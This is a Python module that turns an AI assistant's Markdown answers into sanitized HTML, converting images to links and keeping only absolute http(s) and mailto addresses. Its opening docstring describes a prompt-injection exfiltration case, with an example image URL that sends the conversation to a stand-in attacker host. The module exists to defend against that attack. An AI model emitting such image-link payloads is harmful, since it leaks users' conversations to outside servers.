"""An answer's Markdown as HTML a page may insert as it is.

markdown-it-py renders CommonMark (with tables) and leaves raw HTML in the text as text;
nh3 (the ammonia sanitizer) then keeps only formatting tags and absolute http(s)/mailto
links, in case a model or a poisoned document gets anything else through (a relative or
protocol-relative address such as `//evil.example/x` leaves its link without an address).
Images are not shown: an image URL is fetched the moment the answer is shown, so a
prompt-injected answer could send the conversation to any server
(`![](https://evil.example/?q=…)`); an image becomes a link named by its alt text."""

import re
from collections.abc import Sequence
from functools import lru_cache
from typing import Any

import nh3
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token


def _image_as_link(
    renderer: RendererHTML, tokens: Sequence[Token], idx: int, options: Any, env: Any
) -> str:
    image = tokens[idx]
    src = str(image.attrGet("src") or "")
    alt = renderer.renderInlineAsText(image.children or [], options, env)
    return f'<a href="{escapeHtml(src)}">{escapeHtml(alt or src)}</a>'


_MARKDOWN = MarkdownIt("commonmark", {"html": False, "breaks": True}).enable("table")
_MARKDOWN.add_render_rule("image", _image_as_link)

_TAGS = {
    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
    "li", "ol", "p", "pre", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
# No style attributes: the widget's content security policy would refuse them anyway.
_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}, "code": {"class"}}


_ABSOLUTE = re.compile(r"(?:https?://[^/\\]|mailto:)", re.IGNORECASE)


def _absolute_links_only(tag: str, attribute: str, value: str) -> str | None:
    """A link's address only when absolute: nh3's scheme check lets relative addresses
    through, and `//evil.example/x` is one (it leaves for another host)."""
    if tag == "a" and attribute == "href" and not _ABSOLUTE.match(value):
        return None
    return value


@lru_cache(maxsize=1024)
def answer_html(markdown: str) -> str:
    """Safe HTML of an answer written in Markdown; links open in a new tab, and only
    absolute http(s) and mailto links keep their address. Cached: the citations' excerpts
    (the knowledge base's passages) come back turn after turn."""
    return nh3.clean(
        _MARKDOWN.render(markdown),
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        attribute_filter=_absolute_links_only,
        url_schemes={"http", "https", "mailto"},
        set_tag_attribute_values={"a": {"target": "_blank"}},
        link_rel="noopener noreferrer",
    )
